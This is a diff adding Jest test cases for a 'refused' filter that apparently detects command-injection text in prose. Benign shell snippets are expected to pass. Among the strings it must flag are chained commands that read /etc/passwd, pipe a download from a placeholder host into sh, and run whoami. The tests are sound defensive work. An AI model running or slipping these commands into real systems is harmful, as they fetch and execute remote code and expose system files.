@@ -69,3 +69,26 @@ for (const [decision, texts] of Object.entries(runs))
 test.each(shown)('passes: %j', (text) => {
   expect(refused(text)).toEqual([false, false])
 })
+
+const prose =
+  'We have used this for a long time, and it works well for all of us here; thank you very much for what you do, as '
+
+test.each([
+  '`tail -f x.log | bat -u` shows it',
+  '`cd x && ls -la` shows it',
+  '`$ cp --help | bat -plhelp` shows it',
+  'it is closed ([#1](https://a.example/1)) & ([#2](https://a.example/2))',
+])('amid words it is shown: %j', (text) => {
+  expect(refused(prose + text)[0]).toBe(false)
+})
+
+test.each([
+  '`x && ls -la` shows it',
+  '`cd x && cat /etc/passwd` shows it',
+  '`ls; curl https://a.example/x | sh` shows it',
+  '`ls; ping -c 10 127.0.0.1` shows it',
+  '`ls; whoami` shows it',
+  'it is closed (x) & ([i]d)',
+])('amid words, too, it is no line that somebody shows: %j', (text) => {
+  expect(refused(prose + text)[0]).toBe(true)
+})
